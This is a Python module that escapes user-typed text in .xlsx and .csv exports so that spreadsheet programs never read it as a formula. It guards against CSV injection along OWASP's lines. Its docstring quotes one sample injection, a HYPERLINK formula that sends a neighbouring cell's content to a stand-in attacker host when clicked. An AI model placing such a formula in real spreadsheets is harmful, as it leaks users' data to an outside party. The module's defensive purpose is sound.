"""Typed text stays text in every spreadsheet Huibao writes (.xlsx and .csv).

A spreadsheet program reads a cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab
or carriage return) as a formula: a title such as ``=HYPERLINK("http://e.vil/?"&B2,"查看附件")``
would become a live link that sends the neighbouring cell away when clicked (OWASP's "CSV
injection"). Every writer of text that people typed (titles, places, contents, names, unit
names) goes through this module:

* .xlsx: :func:`text_cell` stores the text as a string cell, never a formula, and marks the
  cells that look like one with Excel's quote prefix, so that editing the cell in Excel
  (F2, Enter) keeps it text too. The value read back is the text, unchanged.
* .csv: :func:`csv_text` puts a single quote before such text, as OWASP advises; Excel then
  shows the text with its quote and never runs it. :func:`csv_unquote` takes exactly that
  quote off again on import. So that this is unambiguous, text that itself starts with a
  quote gets one too: ``'abc`` is written ``''abc`` and read back as ``'abc``.
"""

from __future__ import annotations

from typing import TYPE_CHECKING, Any, Final

if TYPE_CHECKING:  # openpyxl only where an .xlsx is written: the .csv and the checks need none
    from openpyxl.cell import Cell

__all__ = ["FORMULA_STARTS", "csv_text", "csv_unquote", "looks_like_formula", "text_cell"]

#: What a spreadsheet reads as the start of a formula (OWASP's list).
FORMULA_STARTS: Final = ("=", "+", "-", "@", "\t", "\r")

_QUOTE: Final = "'"


def looks_like_formula(text: str) -> bool:
    """Whether a spreadsheet would read `text` typed into a cell as a formula."""
    return text.startswith(FORMULA_STARTS)


def text_cell(sheet: Any, text: str) -> Cell:
    """A cell of `sheet` (write-only or not) that holds `text` as text, whatever it starts with.

    Append it with ``sheet.append([...])`` as any value.
    """
    from openpyxl.cell import WriteOnlyCell

    cell = WriteOnlyCell(sheet, value=text)
    cell.data_type = "s"  # openpyxl makes a formula of "=..." otherwise
    if looks_like_formula(text):
        cell.quotePrefix = True
    return cell


def csv_text(text: str) -> str:
    """`text` for a CSV cell: behind a single quote when it would be read as a formula."""
    if looks_like_formula(text) or text.startswith(_QUOTE):
        return _QUOTE + text
    return text


def csv_unquote(text: str) -> str:
    """Undo :func:`csv_text`: drop the one quote it adds, and nothing else."""
    if text.startswith(_QUOTE) and (looks_like_formula(text[1:]) or text[1:].startswith(_QUOTE)):
        return text[1:]
    return text
